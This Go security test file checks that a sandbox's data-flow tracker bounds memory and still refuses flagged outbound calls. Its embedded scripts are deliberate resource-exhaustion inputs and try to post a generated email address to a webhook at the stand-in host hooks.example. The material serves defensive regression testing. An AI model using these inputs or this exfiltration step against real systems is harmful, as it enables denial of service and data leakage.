package security

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestCrowdedValuesKeptBounded (issue 19, attack21 A2): the data flow
// bounds what a run keeps at 16 MiB, but the automata that find the
// values of a crowded head (values that share their first 8 bytes in
// more than four lengths) were counted by nothing, about 21 bytes a byte
// of value and twice while a level was rebuilt: one run of 44,000 values
// of 240 bytes of one head a ruled source returned grew the server by
// 656 MiB (values of distinct heads: 33), kept until the run ended; with
// addresses, and no rule, 398. They count now: the values past the bound
// are not kept, and a call the rule covers is refused for the rest of
// the run, saying so.
func TestCrowdedValuesKeptBounded(t *testing.T) {
	t.Parallel()
	measure := func(name, head string) (int64, string) {
		cfg := filepath.Join(t.TempDir(), "config.toml")
		os.WriteFile(cfg, []byte("[[filter.rules]]\nfrom = \"util.*\"\nto = \"http.*\"\n"), 0o600)
		catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
		s := start(t, "--config", cfg, "--catalog", catalog)
		bob := s.open(t, bobToken)
		pid := s.cmd.Process.Pid
		if rec := bob.run(`return 1`); rec.Status != "ok" {
			t.Fatalf("warm-up: %.300s", rec.raw)
		}
		os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", pid), []byte("5"), 0) // resets VmHWM
		before := peakRSS(pid)
		t0 := time.Now()
		rec := bob.run(`const abc = "abcdefghijklmnopqrstuvwxyz0123456789";
function rnd(n) { let s = ""; for (let i = 0; i < n; i++) s += abc[(Math.random() * 36) | 0]; return s; }
const base = rnd(240);
let n = 0;
for (let c = 0; c < 11; c++) {
  const items = [];
  // Values of 40 lengths that end apart: each about its length in
  // nodes of the automaton of the values reversed.
  for (let i = 0; i < 4000; i++) { const h = `+head+`; items.push(h + "-" + base.slice(0, 200 + (i % 40)) + (c * 4000 + i).toString(36)); }
  n += (await util.echo({text: "x", items})).items.length;
}
try { await http.post_webhook({url: "https://hooks.example/x", payload: {v: "a plain value"}}); return n + " sent" }
catch (e) { return n + " " + e.code + ": " + e.message }`, "timeout_ms", 60000)
		grow := peakRSS(pid) - before
		t.Logf("%s: %s in %v, peak RSS +%d MiB: %.400s", name, rec.Status, time.Since(t0).Round(time.Millisecond), grow>>20, rec.Result)
		if rec.Status != "ok" {
			t.Fatalf("%s: %.600s", name, rec.raw)
		}
		bob.normal()
		return grow, string(rec.Result)
	}
	control, _ := measure("44,000 values of 240 bytes, distinct heads", `rnd(8)`)
	grow, res := measure("the same of one head", `"zzzzzzzz"`)
	if control < 0 {
		t.Skip("no /proc here")
	}
	if grow > control+128<<20 {
		t.Errorf("one run's 44,000 values of one head grew the server by %d MiB against %d MiB for distinct heads (the flow keeps 16 MiB)", grow>>20, control>>20)
	}
	if !strings.Contains(res, "more data from util.echo than the data-flow tracker keeps") {
		t.Errorf("the values past the flow's bound were lost without the rule's calls refused: %.400s", res)
	}
}

// echoAPI is an OpenAPI source of n operations, evil.e0 to evil.e<n-1>,
// each answering the JSON body it was sent ({items: [...]}), served by a
// local server: each a source of its own for the data flow.
func echoAPI(t *testing.T, n int) string {
	t.Helper()
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		if len(b) == 0 {
			b = []byte(`{"items":[]}`)
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(b)
	}))
	t.Cleanup(ts.Close)
	var b strings.Builder
	b.WriteString(`{"openapi":"3.0.3","info":{"title":"echo","version":"1"},"components":{"schemas":{"Items":{"type":"object","properties":{"items":{"type":"array","items":{"type":"string"}}}}}},"paths":{`)
	for i := range n {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `"/e%d":{"post":{"operationId":"e%d","requestBody":{"content":{"application/json":{"schema":{"$ref":"#/components/schemas/Items"}}}},"responses":{"200":{"description":"ok","content":{"application/json":{"schema":{"$ref":"#/components/schemas/Items"}}}}}}}`, i, i)
	}
	b.WriteString("}}")
	dir := t.TempDir()
	spec := filepath.Join(dir, "evil.json")
	os.WriteFile(spec, []byte(b.String()), 0o600)
	cfg := filepath.Join(dir, "config.toml")
	os.WriteFile(cfg, []byte(fmt.Sprintf("[openapi.evil]\nspec = %q\nbase_url = %q\n\n[[filter.rules]]\nfrom = \"crm.*\"\nto = \"http.*\"\n", spec, ts.URL)), 0o600)
	return cfg
}

// TestOverflowNamesBounded (issue 19, attack21 A3): the data flow gives
// 63 sources a slot each and the rest share the last one, whose names it
// kept, any number of them; and for each value the output filter
// tokenized it copied and sorted the names of the value's set of slots,
// every one of the last slot's included. A run that called 400 tools of
// an API and then returned 65,536 addresses of distinct sets of slots
// had the server copy 350 names for each. The names are bounded now (64
// beside the slot's own): past them the last slot stands for every
// source, and a rule refuses its values whatever it names — the flow no
// longer knows which sources they came from.
func TestOverflowNamesBounded(t *testing.T) {
	t.Parallel()
	const ops, bits = 900, 14
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	measure := func(name string, fill bool) (int64, float64, int) {
		s := start(t, "--config", echoAPI(t, ops), "--catalog", catalog)
		bob := s.open(t, bobToken)
		pid := s.cmd.Process.Pid
		for deadline := time.Now().Add(90 * time.Second); ; time.Sleep(time.Second) {
			rec := bob.run(`await evil.e0({items: []}); return 1`)
			if rec.Status == "ok" {
				break
			}
			if !strings.Contains(rec.raw, "still loading") || time.Now().After(deadline) {
				t.Fatalf("warm-up: %.300s", rec.raw)
			}
		}
		os.WriteFile(fmt.Sprintf("/proc/%d/clear_refs", pid), []byte("5"), 0) // resets VmHWM
		before, cpu := peakRSS(pid), cpuSeconds(pid)
		t0 := time.Now()
		rec := bob.run(fmt.Sprintf(`const fill = %t;
for (let i = 0; i < %d; i++) if (fill || i < %d) await evil["e" + i]({items: []});
const emails = []; for (let j = 0; j < (1 << %d); j++) emails.push("user" + j + "@example.org");
for (let b = 0; b < %d; b++) await evil["e" + b]({items: emails.filter((_, j) => (j >> b) & 1)});
await evil.e%d({items: emails}); // the last slot's, with the fill
// sent: 0 when the post passed, 1 when a rule refused it for the
// sources past the names — as of every source, or, when the flow
// settles the run's waiting results at the check and cannot keep them
// all (the call's provenance is no longer read for every call: sec42),
// as of a source whose data it could not keep — 2 for another error
// (a number: the output's strings are cut to fit its budget).
let sent = 0;
try { await http.post_webhook({url: "https://hooks.example/x", payload: {v: emails[1]}}) }
catch (e) { const m = String(e.message); sent = e.code == "policy_violation" && (m.includes("taken as every source") || m.includes("than the data-flow tracker keeps")) ? 1 : 2 }
return {sent, emails}`, fill, ops-1, bits, bits, bits, ops-1), "timeout_ms", 60000)
		grow, used := peakRSS(pid)-before, cpuSeconds(pid)-cpu
		var res struct {
			Sent int `json:"sent"`
		}
		json.Unmarshal(rec.Result, &res)
		t.Logf("%s: %s in %v, peak RSS +%d MiB, server CPU %.1f s, post %d", name, rec.Status, time.Since(t0).Round(time.Millisecond), grow>>20, used, res.Sent)
		if rec.Status != "ok" {
			t.Fatalf("%s: %.600s", name, rec.raw)
		}
		if strings.Contains(rec.raw, "@example.org") {
			t.Fatalf("%s: an address reached the model: %.300s", name, rec.raw)
		}
		bob.normal()
		return grow, used, res.Sent
	}
	control, controlCPU, sent := measure(fmt.Sprintf("%d addresses of distinct sets of slots", 1<<bits), false)
	if sent != 0 {
		t.Errorf("without the names past the bound, a value of no ruled source was refused (%d)", sent)
	}
	grow, cpu, sent := measure(fmt.Sprintf("the same after %d tools called", ops), true)
	if control < 0 || controlCPU < 0 {
		t.Skip("no /proc here")
	}
	if grow > control+64<<20 || cpu > 2*controlCPU+2 {
		t.Errorf("after %d tools called, the run's %d addresses grew the server by %d MiB and cost %.1f s of its CPU (control %d MiB, %.1f s)", ops, 1<<bits, grow>>20, cpu, control>>20, controlCPU)
	}
	if sent != 1 {
		t.Errorf("a value of the last slot, past its names, was not refused by a rule as of every source (%d)", sent)
	}
}
